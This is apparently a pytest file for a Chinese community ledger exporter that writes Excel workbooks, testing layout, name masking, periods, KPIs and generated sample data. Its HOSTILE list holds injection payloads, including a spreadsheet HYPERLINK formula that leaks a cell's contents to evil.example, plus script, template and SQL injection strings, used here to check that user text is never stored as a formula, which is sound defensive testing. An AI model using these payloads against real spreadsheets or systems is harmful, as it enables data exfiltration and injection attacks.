"""The ledgers without a database: workbooks (title, frozen headers, widths, China time, user text never a formula),
periods, the KPI shaping and the sample's commitments."""

import io
from datetime import UTC, date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest

from api.errors import InvalidPeriod
from api.ledgers import LEDGERS, Column, build_workbook, ledger_workbook, period, safe_text
from api.ledgers.kpis import place_kpis
from gis.sample import draw_commitments

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "'; DROP TABLE requests; --",
]


def _open(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("value", HOSTILE)
def test_user_text_is_text_and_never_a_formula(value):
    ws = _open(build_workbook("t", "s", [Column("内容", 20)], [[value]]))
    cell = ws.cell(row=3, column=1)
    assert cell.data_type == "s" and isinstance(cell.value, str)
    if value[0] in "=+-@\t\r":
        assert cell.value == ("'" + value).replace("\r", "\n")  # XML reads a carriage return as a newline
    else:
        assert cell.value == value  # kept byte for byte


def test_control_characters_that_xlsx_cannot_hold_become_replacement_characters():
    assert safe_text("a\x00b\x1fc\nd") == "a\ufffdb\ufffdc\nd"


def test_layout_title_headers_frozen_widths_and_china_time():
    when = datetime(2026, 3, 1, 16, 30, tzinfo=UTC)  # 2026-03-02 00:30 in China
    columns = [Column("序号", 6, "int"), Column("时间", 17, "datetime"), Column("期限", 12, "date")]
    ws = _open(build_workbook("某社区 台账", "承诺", columns, [[1, when, date(2026, 12, 31)]]))
    assert ws.title == "承诺" and ws["A1"].value == "某社区 台账" and "A1:C1" in {str(r) for r in ws.merged_cells}
    assert [c.value for c in ws[2]] == ["序号", "时间", "期限"]
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["B"].width == 17
    assert ws["B3"].value == datetime(2026, 3, 2, 0, 30) and ws["B3"].number_format == "yyyy-mm-dd hh:mm"
    assert ws["C3"].value.date() == date(2026, 12, 31)


def test_a_row_of_the_wrong_length_is_a_bug():
    with pytest.raises(ValueError, match="2 values for 1 columns"):
        build_workbook("t", "s", [Column("a", 5)], [[1, 2]])


def test_each_ledger_has_its_chinese_headers():
    headers = {name: [c.header for c in ledger.columns] for name, ledger in LEDGERS.items()}
    assert headers["commitments"] == ["序号", "党员姓名", "所在网格", "承诺内容", "承诺时间", "承诺期限", "状态"]
    assert headers["requests"] == [
        "编号", "受理时间", "类别", "地点", "诉求内容", "办理人/单位", "状态", "办结时间", "满意度",
    ]  # fmt: skip
    assert {"户（楼栋 单元 房号）", "人数", "标签", "帮扶次数", "最近帮扶日期"} <= set(headers["hardship"])
    assert {"党员姓名", "践诺/办结时间", "践诺情况"} <= set(headers["fulfilment"])


def test_names_masked_unless_unmasked_and_overdue_commitments_said_so():
    record = {
        "member_name": "张三丰",
        "grid_name": "第1网格",
        "content": "=1+1",
        "made_at": datetime(2026, 1, 5, 1, tzinfo=UTC),
        "promised_by": date(2026, 6, 30),
        "state": "made",
    }
    span = period(date(2026, 1, 1), date(2026, 12, 31))
    masked = _open(ledger_workbook("commitments", "某社区", span, [record], unmasked=False, today=date(2026, 7, 1)))
    assert [c.value for c in masked[3]][1:4] == ["张*丰", "第1网格", "'=1+1"]
    assert masked["G3"].value == "逾期未践诺"
    assert "某社区" in masked["A1"].value and "2026-01-01 至 2026-12-31" in masked["A1"].value
    clear = _open(ledger_workbook("commitments", "某社区", span, [record], unmasked=True, today=date(2026, 6, 1)))
    assert clear["B3"].value == "张三丰" and clear["G3"].value == "践诺中"


@pytest.mark.parametrize(
    ("first", "last", "problem"),
    [
        (date(2026, 2, 1), date(2026, 1, 31), "before from"),
        (date(2025, 1, 1), date(2026, 1, 2), "367 days; at most 366"),
    ],
)
def test_a_period_that_cannot_be_is_refused_naming_why(first, last, problem):
    with pytest.raises(InvalidPeriod, match=problem):
        period(first, last)


def test_a_period_is_whole_days_in_china_time():
    span = period(date(2024, 1, 1), date(2024, 12, 31))  # a leap year: 366 days
    assert span.days == 366
    assert span.start == datetime(2023, 12, 31, 16, tzinfo=UTC) and span.end == datetime(2024, 12, 31, 16, tzinfo=UTC)


def test_kpis_carry_their_counts_and_say_when_they_rest_on_few_cases():
    kpis = place_kpis(
        {"due": 20, "done": 10, "households": 3},
        {"reported": 5, "closed": 3, "overdue": 2},
        {"counted": 5, "closed": 3, "rated": 3, "rating_sum": 11, "satisfied": 2},
    )
    assert kpis["visits"] == {"due": 20, "done": 10, "households": 3, "rate": 0.5, "n": 20, "small": False}
    assert kpis["hazards"]["closure_rate"] == 0.6 and kpis["hazards"]["overdue_rate"] == 0.4
    assert kpis["satisfaction"] == {
        "rated": 3, "mean": 3.67, "satisfied": 2, "satisfied_share": 0.6667, "n": 3, "small": True,
    }  # fmt: skip
    empty = place_kpis(None, None, None)
    assert empty["visits"]["rate"] is None and empty["satisfaction"]["mean"] is None and empty["requests"]["small"]


def _households(n: int = 400) -> tuple[pd.DataFrame, pd.DataFrame]:
    rng = np.random.default_rng(1)
    ids = [f"household/{i}" for i in range(n)]
    households = pd.DataFrame({"source_id": ids, "is_party_member": rng.random(n) < 0.2})
    residents = pd.DataFrame({"source_id": [f"r/{i}" for i in range(n)], "household_ref": ids, "relation": "户主"})
    return households, residents


def test_sample_commitments_are_deterministic_and_nothing_happens_after_today():
    households, residents = _households()
    today = date(2026, 5, 20)
    first = draw_commitments(households, residents, today)
    assert first.equals(draw_commitments(households, residents, today))
    party = set(households.loc[households["is_party_member"], "source_id"])
    assert set(first["household_ref"]) <= party and len(set(first["household_ref"])) > 0.9 * len(party)
    assert first["source_id"].is_unique
    assert set(first["year"]) == {2025, 2026} and set(first["state"]) <= {"made", "fulfilled", "cancelled"}
    cutoff = datetime(2026, 5, 19, 16, tzinfo=UTC)  # today, midnight in China
    assert (first["made_at"] < cutoff).all()
    fulfilled = first[first["state"] == "fulfilled"]
    assert fulfilled["fulfilled_at"].notna().all() and (fulfilled["fulfilled_at"] < cutoff).all()
    assert (fulfilled["fulfilled_at"] >= fulfilled["made_at"]).all()
    assert first.loc[first["state"] != "fulfilled", "fulfilled_at"].isna().all()
    last_year = first[first["year"] == 2025]
    assert 0.75 < (last_year["state"] == "fulfilled").mean() < 0.95
    assert (first["resident_ref"] == first["household_ref"].str.replace("household/", "r/")).all()


def test_a_household_is_named_by_its_address():
    from api.ledgers.sheets import hardship_rows

    base = {"building": "春欣花园11号楼", "room": "301", "grid_name": "第1网格", "size": 2, "tags": ["hardship"],
            "visits": 0, "help_count": 0, "last_help_at": None}  # fmt: skip
    rows = hardship_rows([base | {"unit": "2"}, base | {"unit": "1单元"}, base | {"unit": None}], unmasked=False,
                         today=date(2026, 1, 1))  # fmt: skip
    assert [r[1] for r in rows] == ["春欣花园11号楼 2单元 301", "春欣花园11号楼 1单元 301", "春欣花园11号楼 301"]
    assert rows[0][4] == "低保" and rows[0][8] is None
